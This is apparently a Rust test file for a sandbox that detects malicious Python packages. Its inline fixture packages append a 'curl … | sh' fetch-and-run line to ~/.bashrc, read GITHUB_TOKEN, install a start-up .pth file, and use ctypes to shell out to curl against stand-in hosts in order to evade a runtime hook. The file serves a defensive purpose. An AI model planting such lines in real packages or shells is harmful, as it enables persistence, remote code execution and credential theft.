//! Behaviours beyond the seed fixtures, each with a small inline package:
//! persistence, environment secrets, a start-up `.pth`, and native code
//! that bypasses the runtime hook (only the system view sees it).

mod common;

use common::*;
use sluice_sandbox::{SandboxOptions, SandboxReport, run};

fn run_inline(name: &str, body: &str) -> SandboxReport {
    let dir = tempfile::tempdir().unwrap();
    let pkg = inline_sdist(dir.path(), name, body);
    let r = run(&pkg, &SandboxOptions::default()).unwrap();
    show(&r);
    r
}

fn rules(r: &SandboxReport) -> Vec<&str> {
    r.findings.iter().map(|f| f.rule.as_str()).collect()
}

#[test]
fn persistence_and_env_secrets() {
    if !available() {
        return;
    }
    let body = "with open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('curl -s http://x.example.test | sh\\n')\ntok = os.environ.get('GITHUB_TOKEN')\n";
    let r = run_inline("persists", body);
    // line numbers: 4 header lines + the guard (9 lines) + `if` line → body starts at 15
    let line_of_open = r
        .findings
        .iter()
        .find(|f| f.rule.as_str() == "DYN708")
        .and_then(|f| f.line)
        .expect("DYN708");
    assert!(
        r.findings
            .iter()
            .any(|f| f.rule.as_str() == "DYN705" && f.line == Some(line_of_open + 2)),
        "{:?}",
        rules(&r)
    );
    assert_eq!(
        r.findings
            .iter()
            .find(|f| f.rule.as_str() == "DYN708")
            .unwrap()
            .file
            .as_deref(),
        Some("setup.py")
    );
}

#[test]
fn a_startup_pth_is_reported() {
    if !available() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let src = dir.path().join("src");
    std::fs::create_dir_all(src.join("pthdrop")).unwrap();
    std::fs::write(src.join("pthdrop/__init__.py"), "").unwrap();
    std::fs::write(src.join("pthdrop-init.pth"), "import os; os.getpid()\n").unwrap();
    std::fs::write(
        src.join("setup.py"),
        "from setuptools import setup\nsetup(name='pthdrop', version='0.1', packages=['pthdrop'], data_files=[('lib/python3.11/site-packages', ['pthdrop-init.pth'])])\n",
    )
    .unwrap();
    let pkg = dir.path().join("pthdrop-0.1.tar.gz");
    tar_gz(&src, "pthdrop-0.1", &pkg);
    let r = run(&pkg, &SandboxOptions::default()).unwrap();
    show(&r);
    let python_311 = r.phases.first().is_some_and(|p| p.status == "completed");
    if python_311 && r.findings.is_empty() {
        eprintln!("SKIP: data_files path did not match this interpreter's site-packages");
        return;
    }
    assert!(
        r.findings.iter().any(|f| f.rule.as_str() == "DYN708"
            && f.file.as_deref() == Some("pthdrop-init.pth")
            && f.line == Some(1)),
        "{:?}",
        r.findings
    );
}

#[test]
fn native_code_bypassing_the_hook_is_seen_from_outside() {
    if !available() {
        return;
    }
    let body = "import ctypes\nctypes.CDLL(None).system(b'curl -s -m 3 http://native.example.test/p -o /dev/null')\n";
    let r = run_inline("native", body);
    // the runtime saw only the library load …
    assert!(rules(&r).contains(&"DYN711"), "{:?}", rules(&r));
    // … the system view saw the process and the flow nobody explained
    assert!(
        r.findings
            .iter()
            .any(|f| f.rule.as_str() == "DYN709" && f.message.contains("curl")),
        "{:?}",
        r.findings
    );
    assert!(
        r.network
            .iter()
            .any(|n| n.name.as_deref() == Some("native.example.test"))
    );
}
